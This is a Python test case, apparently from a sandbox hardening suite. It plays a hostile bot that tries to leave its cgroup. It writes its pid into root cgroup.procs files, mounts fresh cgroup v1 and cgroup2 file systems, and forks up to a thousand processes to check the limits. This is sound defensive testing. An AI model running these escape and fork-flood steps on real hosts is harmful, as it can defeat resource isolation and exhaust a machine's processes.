"""Attack: leave its cgroup, so that neither the caps nor the final kill reach it.

Looks for the cgroup file system (/sys/fs/cgroup), mounts its own (v1 pids and memory, and
cgroup2) to write its pid into a root cgroup.procs, reads /proc/self/cgroup. Then it starts
children that stay (the host checks they are all in its cgroup) and forks until refused.

Its children wait on a pipe the bot holds, not on a clock: should they ever escape the cgroup's
final kill, they still end with the bot. A cgroup file system it managed to mount is unmounted."""

import os

from attacklib import attempt, info, play, report, try_syscall, workdir

MNT_DETACH = 2


def join_root(path: str) -> str:
    with open(path, "w") as handle:
        handle.write(str(os.getpid()))
    return f"wrote to {path}"


def stay(hold: int) -> None:
    os.read(hold, 1)  # returns when the bot (every holder of the write end) is gone
    os._exit(0)


def attack() -> None:
    info("proc_self_cgroup", open("/proc/self/cgroup").read().splitlines())
    for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
                 "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):  # fmt: skip
        attempt(f"join:{path}", lambda path=path: join_root(path))
    work = workdir()
    for label, fstype, options in (("v1_pids", "cgroup", "pids"), ("v1_memory", "cgroup", "memory"),
                                   ("v2", "cgroup2", None)):  # fmt: skip
        target = os.path.join(work, label)
        os.mkdir(target)
        try_syscall(f"mount_{label}", "mount", "cgroup", target, fstype, 0, options)
        if os.path.ismount(target):
            attempt(
                f"join_mounted_{label}", lambda target=target: join_root(f"{target}/cgroup.procs")
            )
            try_syscall("undo", "umount2", target, MNT_DETACH)
        else:
            report(f"join_mounted_{label}", "blocked", "not-mounted")
    hold, keep = os.pipe()
    sleepers = 0
    for _ in range(4):
        if os.fork() == 0:
            os.close(keep)
            os.setsid()
            stay(hold)
        sleepers += 1
    forked = 0
    while forked < 1000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.close(keep)
            stay(hold)
        forked += 1
    info("forked_after_escape", {"sleepers": sleepers, "more": forked})
    KEPT.append(keep)


KEPT: list[int] = []


def on_request(number, request):
    if number == 1:
        attack()
    return None


play(name="cgroup_escape", on_request=on_request)
